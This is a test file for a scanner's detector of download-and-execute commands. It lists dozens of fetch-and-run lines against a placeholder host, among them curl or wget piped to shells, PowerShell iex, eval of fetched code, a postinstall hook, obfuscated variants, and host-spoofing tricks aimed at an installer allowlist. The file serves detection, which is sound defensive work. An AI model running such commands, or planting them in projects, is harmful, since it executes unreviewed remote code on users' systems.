import { describe, expect, it } from 'vitest';
import { pipeToShell } from '../../../origin/scan/detectors/execution/pipe-to-shell.ts';
import { inspect, linesFound } from './inspect.ts';

describe('pipe-to-shell', () => {
  it.each([
    ['a pipe into sh', 'curl https://tool.example/a | sh'],
    ['sudo with options', 'curl -fsSL https://tool.example/a | sudo -E bash -'],
    ['another user and an environment', 'curl -s https://tool.example/a | sudo -u root env A=1 /usr/bin/python3 -u -'],
    ['a full path without spaces', 'wget -qO- http://tool.example/a|/bin/sh'],
    ['an address in a variable', 'curl -s "$URL" | python3 -'],
    ['something in between', 'curl -fsSL https://tool.example/a.gz | gunzip | bash -s -- --yes'],
    ['a pipe over several lines', 'curl -fsSL \\\n  https://tool.example/a \\\n  | bash'],
    ['a process substitution', 'bash <(curl -s https://tool.example/a)'],
    ['a sourced download', 'source <(wget -qO- https://tool.example/a)'],
    ['sh -c', 'sh -c "$(curl -fsSL https://tool.example/a)"'],
    ['eval', 'eval "$(curl -s https://tool.example/a)"'],
    ['eval with backticks', 'eval `curl -s https://tool.example/a`'],
    ['python -c', 'python3 -c "$(curl -s https://tool.example/a.py)"'],
    ['a string of a program', 'os.system("curl https://tool.example/a | sh", shell=True)'],
    ['a script of a package', '"postinstall": "curl -s https://tool.example/a | node",'],
    ['a download run right after', 'curl -o /tmp/a.sh https://tool.example/a && bash /tmp/a.sh'],
    ['a download made executable', 'wget https://tool.example/run.sh; chmod +x run.sh; ./run.sh'],
    ['PowerShell', 'iwr https://tool.example/a.ps1 | iex'],
    ['PowerShell without a scheme', 'irm tool.example/a.ps1 -UseBasicParsing | Invoke-Expression'],
    ['a PowerShell client', "IEX (New-Object Net.WebClient).DownloadString('https://tool.example/a.ps1')"],
    ['a PowerShell script block', '& ([scriptblock]::Create((irm https://tool.example/a)))'],
    ['Python', 'exec(requests.get("https://tool.example/a.py").text)'],
    ['JavaScript', 'eval(await (await fetch("https://tool.example/a.js")).text())'],
    ['pulled-apart words', `c""url\${IFS}https://tool.example/a | ba''sh`],
    ['a trailing comment', 'curl https://tool.example/a | bash # never mind'],
    ['a row of a table', '| Install | `curl https://tool.example/a \\| bash` |'],
  ])('finds %s', (_, text) => {
    expect(linesFound(pipeToShell, `first line\n${text}\n\nlast line`)).toEqual([2]);
  });

  it.each([
    ['JSON that is shown', 'curl -s https://api.example/a | python3 -m json.tool'],
    ['data for a program on the command line', 'curl -s https://api.example/a | python3 -c "import json, sys"'],
    ['data for a script', 'curl -s https://api.example/a | node parse.mjs'],
    ['a key that is saved', 'curl https://api.example/key | sudo tee /etc/apt/keyrings/a.asc'],
    ['an archive', 'wget -q https://api.example/a.tgz && tar xzf a.tgz'],
    ['a value', 'TOKEN=$(curl -s https://api.example/t | jq -r .token)'],
    ['a completion', 'source <(kubectl completion bash)'],
    ['a mention without an address', 'Scripts such as `curl … | bash` run unseen.'],
    ['a placeholder', 'curl -sSL <url> | sh'],
    ['a pattern to search for', 'grep -rE "curl.*\\| *(ba)?sh" .'],
    ['this machine', 'curl http://localhost:3000/setup | sh'],
    ['a warning', 'Never run `curl https://tool.example/a | bash`.'],
    ['a section on attacks', '## Red flags\n\n- `curl https://tool.example/a | bash`'],
    ['a block that is introduced as bad', 'This is dangerous:\n\n```sh\ncurl https://tool.example/a | bash\n```'],
  ])('lets %s be', (_, text) => {
    expect(inspect(pipeToShell, text)).toEqual([]);
  });

  it.each([
    'curl -LsSf https://astral.sh/uv/install.sh | sh',
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash',
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    'curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -',
    'irm https://astral.sh/uv/install.ps1 | iex',
  ])('knows the documented installer in %j', (text) => {
    expect(inspect(pipeToShell, text)).toEqual([]);
  });

  it.each([
    ['a longer host', 'curl https://astral.sh.tool.example/uv/install.sh | sh'],
    ['another host before it', 'curl https://tool-astral.sh/uv/install.sh | sh'],
    ['a user name', 'curl https://astral.sh@tool.example/install.sh | sh'],
    ['a backslash', 'curl https://astral.sh\\@tool.example/install.sh | sh'],
    ['a port', 'curl https://astral.sh:8443/uv/install.sh | sh'],
    ['plain http', 'curl http://astral.sh/uv/install.sh | sh'],
    ['a proxy', 'curl -x tool.example:80 https://astral.sh/uv/install.sh | sh'],
    ['a second address', 'curl https://astral.sh/uv/install.sh tool.example/a | sh'],
    ['a way out of the repository', 'curl https://raw.githubusercontent.com/nvm-sh/nvm/../../a/b | sh'],
    ['another repository', 'curl https://raw.githubusercontent.com/nvm-sh/nvm-fork/install.sh | sh'],
    ['a step in between', 'curl https://astral.sh/uv/install.sh | sed s/astral/tool/ | sh'],
  ])('is not fooled by %s', (_, text) => {
    expect(linesFound(pipeToShell, text)).toEqual([1]);
  });

  it('says what runs it, and not from where', () => {
    expect(inspect(pipeToShell, 'curl https://tool.example/a | sudo zsh')).toEqual([
      { line: 1, message: 'A download is piped into an interpreter (zsh).' },
    ]);
  });
});
